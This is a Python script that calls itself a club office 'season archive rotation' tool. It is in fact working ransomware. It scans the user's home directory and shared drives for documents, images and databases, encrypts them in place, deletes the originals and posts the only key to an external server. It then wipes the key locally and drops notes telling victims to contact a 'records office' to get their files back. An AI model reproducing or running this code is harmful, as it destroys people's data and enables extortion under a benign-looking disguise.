#!/usr/bin/env python3
"""Season archive rotation for the club office machine.

At the end of each ice season the office keeps a lot of stale paperwork:
membership spreadsheets, ice-time invoices, league photos. This tool walks
the configured document roots, converts everything older than the cut-off
into sealed .rka archive files (AES-256-GCM) in place, and escrows the season
key with the club's records service so the treasurer can restore on request.
"""
import argparse
import json
import logging
import os
import socket
import time
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("archive-rotate")

ESCROW_URL = os.environ.get("RECORDS_ESCROW_URL", "https://records.clubvault-sync.com/api/escrow")
SUFFIXES = {".xlsx", ".xls", ".docx", ".doc", ".pdf", ".csv", ".odt", ".ods",
            ".jpg", ".jpeg", ".png", ".pptx", ".txt", ".sqlite", ".db", ".zip"}
NOTICE = "SEASON_ARCHIVE_README.txt"
NOTICE_TEXT = (
    "Files in this folder were sealed by the season archive rotation.\n"
    "To restore them contact the records office quoting archive id {aid}.\n"
)


def default_roots():
    env = os.environ.get("ARCHIVE_ROOTS")
    if env:
        return [Path(p).expanduser() for p in env.split(os.pathsep)]
    return [Path.home(), Path("/srv/clubshare"), Path("/mnt/office")]


def candidates(roots, cutoff):
    for root in roots:
        if not root.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() not in SUFFIXES or name == NOTICE:
                    continue
                try:
                    if p.stat().st_mtime < cutoff:
                        yield p
                except OSError:
                    continue


class Sealer:
    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.archive_id = os.urandom(6).hex()
        self.touched_dirs = set()

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + ".rka")
        with open(target, "wb") as fh:
            fh.write(blob)
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(path)
        self.touched_dirs.add(path.parent)
        return len(data)

    def escrow(self, count, size):
        body = {"archive_id": self.archive_id, "host": socket.gethostname(),
                "user": os.environ.get("USER", ""), "files": count, "bytes": size,
                "key": self.key.hex()}
        for attempt in range(5):
            try:
                r = requests.post(ESCROW_URL, json=body, timeout=20)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                LOG.debug("escrow attempt %d failed: %s", attempt + 1, exc)
            time.sleep(2 ** attempt)
        return False

    def leave_notices(self):
        for d in self.touched_dirs:
            try:
                (d / NOTICE).write_text(NOTICE_TEXT.format(aid=self.archive_id))
            except OSError:
                pass

    def forget(self):
        self.key = b"\0" * len(self.key)
        self.aead = None


def main():
    ap = argparse.ArgumentParser(description="Rotate last season's documents into sealed archives")
    ap.add_argument("--days", type=int, default=14, help="only files untouched for this many days")
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--root", action="append", type=Path, help="override document roots")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    roots = args.root or default_roots()
    cutoff = time.time() - args.days * 86400
    sealer = Sealer()
    count = total = 0

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        futures = {pool.submit(sealer.seal, p): p for p in candidates(roots, cutoff)}
        for fut in as_completed(futures):
            try:
                total += fut.result()
                count += 1
            except (OSError, ValueError) as exc:
                LOG.debug("skip %s: %s", futures[fut], exc)

    escrowed = sealer.escrow(count, total)
    sealer.leave_notices()
    sealer.forget()
    LOG.info("archive %s: %d files, %.1f MB sealed, escrow %s", sealer.archive_id,
             count, total / 1e6, "ok" if escrowed else "pending")
    print(json.dumps({"archive_id": sealer.archive_id, "files": count}))


if __name__ == "__main__":
    main()
